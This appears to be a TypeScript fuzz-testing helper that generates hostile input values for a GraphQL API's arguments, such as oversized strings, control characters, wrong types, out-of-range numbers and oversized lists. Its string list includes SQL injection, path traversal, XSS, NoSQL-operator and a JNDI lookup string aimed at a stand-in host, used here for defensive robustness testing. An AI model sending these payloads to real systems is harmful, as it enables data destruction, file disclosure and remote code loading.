import fc from 'fast-check';
import { getNullableType, isEnumType, isInputObjectType, isListType, type GraphQLInputType } from 'graphql';
import { sampleOf } from './fuzz-valid-values.ts';

// The hostile values of each kind the fuzz cases (fuzz-cases.ts) put at a position: what a careless or
// malicious client sends (empty, huge, NUL and other control characters, emoji, lone surrogates, injection
// strings, wrong types, out-of-range numbers, duplicate and oversized lists, nulls), and random strings.

export interface Hostile {
  label: string;
  value: unknown;
}

const text = (label: string, value: string): Hostile => ({ label, value });

const HOSTILE_STRINGS: Hostile[] = [
  text('empty', ''),
  text('blank', '   '),
  text('64 characters', 'a'.repeat(64)),
  text('300 characters', 'a'.repeat(300)),
  text('5,000 characters', 'a'.repeat(5000)),
  text('40,000 characters', 'a'.repeat(40_000)),
  text('NUL', 'a\u0000b'),
  text('only NUL', '\u0000'),
  text('escape sequence', 'a\u001b[31mb'),
  text('newline and tab', 'a\n\tb'),
  text('DEL and C1', 'a\u007f\u0085b'),
  text('emoji', '🚀💥'),
  text('right-to-left override', 'abc\u202edef'),
  text('lone surrogate', 'a\ud800b'),
  text('SQL injection', "x'; DROP TABLE namespaces; --"),
  text('SQL tautology', "' OR '1'='1"),
  text('path traversal', '../../etc/passwd'),
  text('HTML', '<script>alert(1)</script>'),
  text('template injection', '${jndi:ldap://evil.example/a}'),
  text('huge number', '99999999999999999999'),
  text('beyond a 32-bit id', '2147483648'),
  text('negative number', '-1'),
  text('JSON operator', '{"$ne": null}'),
  { label: 'number (wrong type)', value: 42 },
  { label: 'boolean (wrong type)', value: true },
  { label: 'object (wrong type)', value: { a: 1 } },
];

const HOSTILE_INTS: Hostile[] = [
  { label: '0', value: 0 },
  { label: '-1', value: -1 },
  { label: 'smallest Int', value: -2_147_483_648 },
  { label: 'largest Int', value: 2_147_483_647 },
  { label: 'beyond Int', value: 2_147_483_648 },
  { label: '1e21', value: 1e21 },
  { label: 'fraction', value: 1.5 },
  { label: 'numeric string (wrong type)', value: '7' },
  { label: 'boolean (wrong type)', value: true },
];

const HOSTILE_BOOLEANS: Hostile[] = [
  { label: 'string (wrong type)', value: 'true' },
  { label: 'number (wrong type)', value: 0 },
  { label: 'list (wrong type)', value: [true] },
];

const HOSTILE_ENUMS: Hostile[] = [
  { label: 'unknown value', value: 'NOT_A_VALUE' },
  { label: 'lowercase value', value: 'present' },
  { label: 'empty', value: '' },
  { label: 'number (wrong type)', value: 1 },
];

function hostileLists(item: unknown): Hostile[] {
  return [
    { label: 'empty list', value: [] },
    { label: 'the same item twice', value: [item, structuredClone(item)] },
    { label: '101 items', value: Array.from({ length: 101 }, () => item) },
    { label: '10,000 items', value: Array.from({ length: 10_000 }, () => item) },
    { label: 'a null item', value: [null] },
    { label: 'a bare item', value: item },
    { label: 'string (wrong type)', value: 'text' },
  ];
}

function hostileObjects(sample: unknown, nested: boolean): Hostile[] {
  return [
    // Not hostile, but written inline it is an object of graphql-js's own making (null prototype). An
    // argument's valid value is the base itself, which would delete or change the seeded resources.
    ...(nested ? [{ label: 'a valid object', value: sample }] : []),
    { label: 'empty object', value: {} },
    { label: 'unknown field', value: { ...(sample as object), bogus: 1 } },
    { label: 'string (wrong type)', value: 'text' },
    { label: 'list of it', value: [sample] },
  ];
}

export function hostileValues(
  type: GraphQLInputType,
  current: unknown,
  nested: boolean,
  randomStrings: Hostile[],
): Hostile[] {
  const nulls: Hostile[] = [{ label: 'null', value: null }];
  const inner = getNullableType(type);
  if (isListType(inner)) {
    const items = Array.isArray(current) && current.length > 0 ? current : [];
    return [...nulls, ...hostileLists(items[0] ?? sampleOf(inner.ofType as GraphQLInputType))];
  }
  if (isInputObjectType(inner)) return [...nulls, ...hostileObjects(current ?? sampleOf(inner), nested)];
  if (isEnumType(inner)) return [...nulls, ...HOSTILE_ENUMS];
  if (inner.name === 'Int' || inner.name === 'Float') return [...nulls, ...HOSTILE_INTS];
  if (inner.name === 'Boolean') return [...nulls, ...HOSTILE_BOOLEANS];
  return [...nulls, ...HOSTILE_STRINGS, ...randomStrings];
}

/** Strings fast-check makes from the seed: any code points, control characters and emoji included. */
export const randomStrings = (seed: number): Hostile[] =>
  fc
    .sample(fc.string({ unit: 'binary', minLength: 1, maxLength: 24 }), { seed, numRuns: 4 })
    .map((value, index) => text(`random string ${index + 1} ${JSON.stringify(value)}`, value));
